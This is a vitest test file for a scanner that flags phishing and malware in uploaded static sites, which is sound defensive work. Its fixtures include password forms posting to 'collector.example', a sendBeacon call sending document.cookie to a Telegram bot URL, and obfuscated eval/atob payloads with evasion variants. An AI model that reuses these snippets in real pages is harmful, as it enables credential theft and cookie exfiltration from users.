import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EXCERPT_CHARS, SEVERE_RULES, excerptOf } from "@/lib/scan/findings";
import { scanRules } from "@/lib/schemas";
import { reportLines } from "@/lib/deploy/report-text";
import { brandIn, MAX_NESTING, parseRefresh } from "@/lib/scan/html";
import { DEFAULT_BRANDS, brandList, executableHeader, redirectUrls, scanFile } from "@/lib/scan/rules";
import { exfiltrationEndpoint, isOffsite, resolveUrl } from "@/lib/scan/urls";
import { lookUpUris } from "@/lib/scan/web-risk";
import { evasions } from "../support/scan-evasions";
import { benignLookAlikes, truePositives } from "../support/scan-fixtures";
import { startWebRiskStandin, type WebRiskStandin } from "../support/web-risk-standin";

const opts = { ownHosts: new Set(["own-drop.drops.test"]), brands: brandList(DEFAULT_BRANDS) };
const bytes = (c: string | Uint8Array) => (typeof c === "string" ? new TextEncoder().encode(c) : c);
/** Rule and line of each finding of a file. */
const found = (path: string, text: string) => scanFile(path, bytes(text), opts).findings.map((f) => [f.rule, f.line]);

describe("the seven rules", () => {
  it("have the stable names, four of them severe", () => {
    expect(scanRules).toEqual([
      "credential-form-offsite",
      "exfiltration-endpoint",
      "instant-offsite-redirect",
      "obfuscated-script",
      "executable",
      "brand-lure",
      "web-risk",
    ]);
    expect([...SEVERE_RULES].sort()).toEqual([
      "credential-form-offsite",
      "executable",
      "exfiltration-endpoint",
      "web-risk",
    ]);
  });

  it("every rule but web-risk has a realistic fixture", () => {
    const covered = new Set(truePositives.map((f) => f.rule));
    expect([...covered].sort()).toEqual(scanRules.filter((r) => r !== "web-risk").sort());
  });
});

describe("each rule finds its fixture, with file, line and excerpt", () => {
  it.each(truePositives.map((f) => [f.name, f] as const))("%s", (_, f) => {
    const { findings } = scanFile(f.path, bytes(f.content), opts);
    expect(findings.map((x) => ({ rule: x.rule, file: x.file, line: x.line }))).toEqual([
      { rule: f.rule, file: f.path, line: f.line },
    ]);
    for (const x of findings) {
      expect(x.excerpt.length).toBeGreaterThan(0);
      expect(Array.from(x.excerpt).length).toBeLessThanOrEqual(EXCERPT_CHARS);
    }
  });
});

describe("benign look-alikes are not flagged", () => {
  it.each(benignLookAlikes.map((f) => [f.name, f] as const))("%s", (_, f) => {
    expect(scanFile(f.path, bytes(f.content), opts).findings).toEqual([]);
  });
});

describe("what a browser would run: each evasion finds what the original kit finds", () => {
  it.each(evasions.map((f) => [f.name, f] as const))("%s", (_, f) => {
    const { findings } = scanFile(f.path, bytes(f.content), opts);
    expect(findings.map((x) => ({ rule: x.rule, file: x.file, line: x.line }))).toEqual([
      { rule: f.rule, file: f.path, line: f.line },
    ]);
  });
});

describe("each evasion's benign look-alike finds nothing", () => {
  it.each(evasions.map((f) => [f.lookAlike.name, f.lookAlike] as const))("%s", (_, f) => {
    expect(scanFile(f.path, bytes(f.content), opts).findings).toEqual([]);
  });
});

describe("one URL normaliser for every rule that names a host or path", () => {
  it.each([
    ["https://API.TELEGRAM.ORG/bot1/x", "api.telegram.org", "/bot1/x"],
    ["https://api.telegram.org./bot1", "api.telegram.org", "/bot1"],
    ["https://api.telegram.org../bot1", "api.telegram.org", "/bot1"],
    ["https://api.telegram.org/%62ot1", "api.telegram.org", "/bot1"],
    ["https://api.telegram.org/%62ot%zz", "api.telegram.org", "/bot%zz"],
    ["https://api.telegr%61m.org/bot1", "api.telegram.org", "/bot1"],
    ["https:\\\\api.telegram.org\\bot1", "api.telegram.org", "/bot1"],
    ["https://user:pw@api.telegram.org:443/./x/../bot1", "api.telegram.org", "/bot1"],
    ["https://ａｐｉ.telegram.org/bot1", "api.telegram.org", "/bot1"],
  ])("%s is host %s, path %s, a collector", (raw, host, path) => {
    const url = resolveUrl(raw)!;
    expect({ host: url.host, path: url.path }).toEqual({ host, path });
    expect(exfiltrationEndpoint(url)).toBe("Telegram bot API");
  });

  it("a relative URL is the drop's own; other schemes and what does not parse are nothing", () => {
    expect(isOffsite(resolveUrl("/login")!, new Set())).toBe(false);
    expect(isOffsite(resolveUrl("https://Own.Example./x")!, new Set(["own.example"]))).toBe(false);
    expect(resolveUrl("javascript:alert(1)")).toBeNull();
    expect(resolveUrl("https://[nope/")).toBeNull();
  });
});

describe("what scripts do to the page, further shapes", () => {
  it("a whole form made by a script, its password included, posting elsewhere", () => {
    const js = `var f = document.createElement("form");
f.action = "https://collector.example/p";
var p = document.createElement("input");
p.type = "password";
f.appendChild(p);
var q = document.createElement("input");
q.setAttribute("type", "password");
f.appendChild(q);
document.body.appendChild(f);`;
    expect(found("make.js", js)).toEqual([["credential-form-offsite", 2]]);
    expect(found("make.js", js.replace("https://collector.example/p", "/p"))).toEqual([]);
  });

  it("a script file alone: a password it makes and an action it sets elsewhere", () => {
    const js = `$("#login").attr("action", "https://collector.example/p");
$("#slot").html('<input type="password" name="p">');`;
    expect(found("kit.js", js)).toEqual([["credential-form-offsite", 1]]);
    expect(found("kit.js", js.split("\n")[0]!)).toEqual([]);
  });

  it("jQuery and document.forms by name reach the named form only", () => {
    const html = `<form name="login" action="/in"><input type="password"></form>
<form name="news"><input name="e"></form>
<script>$("form[name=news]").attr("action", "https://lists.example/s");
document.forms.login.setAttribute("action", "https://collector.example/p");</script>`;
    expect(found("p.html", html)).toEqual([["credential-form-offsite", 4]]);
  });

  it("a form named by its class reaches that form only", () => {
    const page = (sel: string) => `<form action="/in" class="login box"><input type="password"></form>
<form class="search box"><input name="q"></form>
<script>document.querySelector("${sel}").action = "https://www.google.com/search";</script>`;
    expect(found("p.html", page(".search"))).toEqual([]);
    expect(found("p.html", page("form.search"))).toEqual([]);
    expect(found("p.html", page(".login"))).toEqual([["credential-form-offsite", 3]]);
    expect(found("p.html", page(".box"))).toEqual([["credential-form-offsite", 3]]);
  });

  it("a form's onsubmit handler that sets an action elsewhere", () => {
    const html = `<form action="/in" onsubmit="this.action='https://collector.example/p'"><input type="password"></form>`;
    expect(found("p.html", html)).toEqual([["credential-form-offsite", 1]]);
  });

  it("the password made in one script and the action set in another", () => {
    const html = `<form action="/in"><input name="u"></form>
<script>var p = document.createElement("input"); p.type = "password"; document.forms[0].appendChild(p);</script>
<script>document.forms[0].action = "https://collector.example/p";</script>`;
    expect(found("p.html", html)).toEqual([["credential-form-offsite", 3]]);
  });

  it("a show/hide toggle on a field the scan cannot name makes no form a password form", () => {
    const html = `<form action="/in"><input type="password" id="pw"><button type="button" onclick="t(this)">Show</button></form>
<form action="https://duckduckgo.com/"><input name="q"></form>
<script>function t(b) { var f = b.previousElementSibling; f.type = f.type === "text" ? "password" : "text"; b.previousElementSibling.type = "password"; }</script>`;
    expect(found("p.html", html)).toEqual([]);
  });

  it("markup a script writes is a document: a kit's form in document.write", () => {
    const html = `<p>x</p>
<script>document.write('<form action="https://collector.example/p">' + '<input type="password"></form>');</script>`;
    expect(found("p.html", html)).toEqual([["credential-form-offsite", 2]]);
  });

  it("a script cut at the byte budget: string tokens joined with + are folded", () => {
    const js = `var u = "https://api.tele" + "gram.org/bot1:x/sendMessage";\nfunction f( {`;
    expect(found("cut.js", js)).toEqual([["exfiltration-endpoint", 1]]);
  });

  it("code handed to eval, Function or setTimeout as a constant (or atob of one) is scanned as a script", () => {
    const send = `navigator.sendBeacon("https://api.telegram.org/bot1:x/sendMessage", document.cookie)`;
    expect(found("a.js", `var c = ${JSON.stringify(send)};\nsetTimeout(c, 10);`)).toEqual([
      ["exfiltration-endpoint", 2],
    ]);
    expect(found("a.js", `new Function("d", ${JSON.stringify(send)});`)).toEqual([["exfiltration-endpoint", 1]]);
    const packed = Buffer.from(send).toString("base64");
    expect(found("a.js", `\n(0, eval)(atob("${packed}"));`)).toEqual([
      ["obfuscated-script", 2],
      ["exfiltration-endpoint", 2],
    ]);
    expect(found("a.js", `eval("1 + 1"); setTimeout("tick()", 100); new Function("a", "return a * 2");`)).toEqual([]);
  });

  it("eval.call and (0, eval) over decoded text are calls of eval", () => {
    expect(found("a.js", `eval.call(null, atob("YQ=="));`)).toEqual([["obfuscated-script", 1]]);
    expect(found("a.js", `(0, window["ev" + "al"])(atob("YQ=="));`)).toEqual([["obfuscated-script", 1]]);
  });
});

describe("the scan stays bounded", () => {
  it("a chain of 50,000 strings joined with + folds once, without running out of stack", () => {
    const js = `var u = "https://api.telegram.org/bot"${' + "x"'.repeat(50_000)};`;
    const started = performance.now();
    expect(scanFile("long.js", bytes(js), opts).findings.map((f) => f.rule)).toEqual(["exfiltration-endpoint"]);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it("constants that double at each step are cut, not built", () => {
    const lines = ['var a0 = "<input type=password>";'];
    for (let i = 1; i <= 40; i++) lines.push(`var a${i} = a${i - 1} + a${i - 1};`);
    lines.push("document.body.innerHTML = a40;");
    const started = performance.now();
    scanFile("double.js", bytes(lines.join("\n")), opts);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it(`srcdoc documents are read ${MAX_NESTING} deep, no deeper`, () => {
    const kit = `<form action="https://collector.example/p"><input type="password"></form>`;
    const wrap = (inner: string) =>
      `<iframe srcdoc="${inner.replace(/&/g, "&amp;").replace(/"/g, "&quot;")}"></iframe>`;
    let page = kit;
    for (let i = 0; i < MAX_NESTING; i++) page = wrap(page);
    expect(found("deep.html", page)).toEqual([["credential-form-offsite", 1]]);
    expect(found("deeper.html", wrap(page))).toEqual([]);
  });
});

describe("details of the rules", () => {
  it("the excerpt is the offending element, cut to 120 code points", () => {
    const f = truePositives.find((x) => x.rule === "credential-form-offsite")!;
    const [finding] = scanFile(f.path, bytes(f.content), opts).findings;
    expect(finding!.excerpt).toBe('<form method="post" action="https://secure-login-verify.example.net/next.php">');
    const long = excerptOf("😀".repeat(300));
    expect(Array.from(long)).toHaveLength(EXCERPT_CHARS);
    expect(long.endsWith("…")).toBe(true);
    expect(excerptOf("a\n\n   b")).toBe("a b");
  });

  it("a <base href> elsewhere makes a relative password form post elsewhere", () => {
    const html = `<base href="https://elsewhere.example/"><form action="p.php"><input type="password"></form>`;
    expect(scanFile("x.html", bytes(html), opts).findings.map((f) => f.rule)).toEqual(["credential-form-offsite"]);
  });

  it("a password input tied to a form by its form attribute counts", () => {
    const html = `<form id="f" action="https://x.example/"></form>\n<input form="f" type="password">`;
    expect(scanFile("x.html", bytes(html), opts).findings.map((f) => f.rule)).toEqual(["credential-form-offsite"]);
  });

  it("uppercase markup and entities are read as a browser reads them", () => {
    const html = `<FORM ACTION="https&#58;//x.example/"><INPUT TYPE="PASSWORD"></FORM>`;
    expect(scanFile("x.html", bytes(html), opts).findings.map((f) => f.rule)).toEqual(["credential-form-offsite"]);
  });

  it("a 1-second refresh is instant, a 2-second one is not", () => {
    const page = (s: string) => `<meta http-equiv="refresh" content="${s}; url=https://x.example/">`;
    expect(scanFile("index.html", bytes(page("1")), opts).findings.map((f) => f.rule)).toEqual([
      "instant-offsite-redirect",
    ]);
    expect(scanFile("index.html", bytes(page("1.9")), opts).findings.map((f) => f.rule)).toEqual([
      "instant-offsite-redirect",
    ]);
    expect(scanFile("index.html", bytes(page("2")), opts).findings).toEqual([]);
  });

  it.each([
    ["0; url=https://a.example/", { seconds: 0, url: "https://a.example/" }],
    ["0;URL='https://a.example/'", { seconds: 0, url: "https://a.example/" }],
    ["3, https://a.example/", { seconds: 3, url: "https://a.example/" }],
    ['  1.5 ;  url = "/x" ', { seconds: 1, url: "/x" }],
    ["5", { seconds: 5, url: null }],
    ["x; url=/y", null],
  ])("meta refresh content %j", (content, expected) => {
    expect(parseRefresh(content)).toEqual(expected);
  });

  it.each([
    ["Sign in – PayPal", "paypal"],
    ["Microsoft Office 365", "microsoft"],
    ["Your OFFICE  365 mailbox", "office 365"],
    ["Apple ID", "apple"],
    ["iCloud", "icloud"],
    ["Pineapple", null],
    ["Applesauce recipes", null],
    ["DHL Express", "dhl"],
    ["fedexx", null],
  ])("brand in %j → %s", (text, brand) => {
    expect(brandIn(text, brandList(DEFAULT_BRANDS))).toBe(brand);
  });

  it("SCAN_BRANDS replaces the list", () => {
    const page = `<title>Acme Bank login</title><input type="password">`;
    expect(scanFile("a.html", bytes(page), opts).findings).toEqual([]);
    const own = { ...opts, brands: brandList(["Acme Bank"]) };
    expect(scanFile("a.html", bytes(page), own).findings.map((f) => f.rule)).toEqual(["brand-lure"]);
  });

  it("a universal Mach-O binary is executable, a Java class is caught by .jar only", () => {
    expect(executableHeader(new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]))).toMatch(/Mach-O/);
    expect(executableHeader(new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]))).toBeNull();
  });

  it("a script cut at the byte budget is still read for its literals", () => {
    const js = `var u = "https://api.telegram.org/bot1:x/sendMessage";\nfunction f( {`;
    expect(scanFile("cut.js", bytes(js), opts).findings.map((f) => [f.rule, f.line])).toEqual([
      ["exfiltration-endpoint", 1],
    ]);
  });

  it("an event handler attribute is a script", () => {
    const html = `<p>\n<img src="x.png" onerror="eval(atob('YWxlcnQoMSk='))">`;
    expect(scanFile("x.html", bytes(html), opts).findings.map((f) => [f.rule, f.line])).toEqual([
      ["obfuscated-script", 2],
    ]);
  });

  it("script text that is not JavaScript (JSON-LD, templates) is not read as a script", () => {
    const html = `<script type="application/ld+json">{"u": "https://api.telegram.org/bot1/x"}</script>`;
    expect(scanFile("x.html", bytes(html), opts).findings).toEqual([]);
  });
});

describe("the URLs a drop links to (for web-risk)", () => {
  it("come from markup, not scripts, resolved, with hosts in lower case, own hosts left out", () => {
    const html = `<!doctype html>
<a href="HTTPS://Bad.Example/Path?q=1">x</a>
<img src="//cdn.example.net/i.png"><a href="/local">l</a>
<a href="https://own-drop.drops.test/x">own</a>
<script>fetch("https://in-script.example/")</script>
<meta http-equiv="refresh" content="9; url=https://later.example/">`;
    const { urls } = scanFile("p.html", bytes(html), opts);
    expect(urls).toEqual([
      { url: "https://bad.example/Path?q=1", file: "p.html", line: 2 },
      { url: "https://cdn.example.net/i.png", file: "p.html", line: 3 },
      { url: "https://later.example/", file: "p.html", line: 6 },
    ]);
  });

  it("_redirects targets on other hosts are included", () => {
    const rules = [
      { line: 1, from: "/a", to: "/b", status: 301 as const, force: false },
      { line: 2, from: "/go/*", to: "https://Elsewhere.example/:splat", status: 302 as const, force: false },
    ];
    expect(redirectUrls(rules, opts.ownHosts)).toEqual([
      { url: "https://elsewhere.example/x", file: "_redirects", line: 2 },
    ]);
  });
});

describe("Web Risk uris.search, against a local stand-in", () => {
  let standin: WebRiskStandin;
  beforeAll(async () => {
    standin = await startWebRiskStandin();
  });
  afterAll(async () => {
    await standin.close();
  });

  it("a listed URL is a hit with its threat types; others are misses", async () => {
    standin.mode = "ok";
    standin.list("https://malware.example/", ["MALWARE"]);
    standin.lookups.length = 0;
    const result = await lookUpUris({ key: standin.key, base: standin.url }, [
      "https://malware.example/",
      "https://fine.example/",
      "https://malware.example/",
    ]);
    expect(result.failed).toBe(0);
    expect([...result.hits]).toEqual([["https://malware.example/", ["MALWARE"]]]);
    expect(standin.lookups.sort()).toEqual(["https://fine.example/", "https://malware.example/"]);
  });

  it("a wrong key or an outage fails the look-ups: counted, never thrown", async () => {
    standin.mode = "ok";
    const wrongKey = await lookUpUris({ key: "nope", base: standin.url }, ["https://malware.example/"]);
    expect(wrongKey).toEqual({ hits: new Map(), failed: 1 });
    standin.mode = "error";
    const down = await lookUpUris({ key: standin.key, base: standin.url }, [
      "https://malware.example/",
      "https://b.example/",
    ]);
    expect(down).toEqual({ hits: new Map(), failed: 2 });
  });

  it("a stand-in that never answers costs at most the time limit", async () => {
    standin.mode = "hang";
    const started = Date.now();
    const urls = Array.from({ length: 40 }, (_, i) => `https://u${i}.example/`);
    const result = await lookUpUris({ key: standin.key, base: standin.url, timeoutMs: 300, totalMs: 2_000 }, urls);
    expect(result.failed).toBe(40);
    expect(result.hits.size).toBe(0);
    expect(Date.now() - started).toBeLessThan(1_500);
    standin.mode = "ok";
  });

  it("nothing listening is a failure too", async () => {
    const result = await lookUpUris({ key: "k", base: "http://127.0.0.1:9" }, ["https://a.example/"]);
    expect(result.failed).toBe(1);
  });
});

describe("the report's text (CLI and MCP)", () => {
  it("lists the findings under a headline, with no lines when there are none", () => {
    const base = { missing_references: [], warnings: [], redirect_rules: 0, header_rules: 0 };
    expect(reportLines(base, 10, "x")).toEqual([]);
    expect(
      reportLines(
        {
          ...base,
          findings: [
            { rule: "brand-lure", file: "index.html", line: 3, excerpt: "<title>PayPal" },
            { rule: "executable", file: "a.exe", line: 0, excerpt: "a .exe file" },
          ],
        },
        10,
        "x",
      ),
    ).toEqual([
      "Scan: 2 findings; the drop is in the operators' review queue.",
      "  brand-lure index.html:3: <title>PayPal",
      "  executable a.exe: a .exe file",
    ]);
  });
});
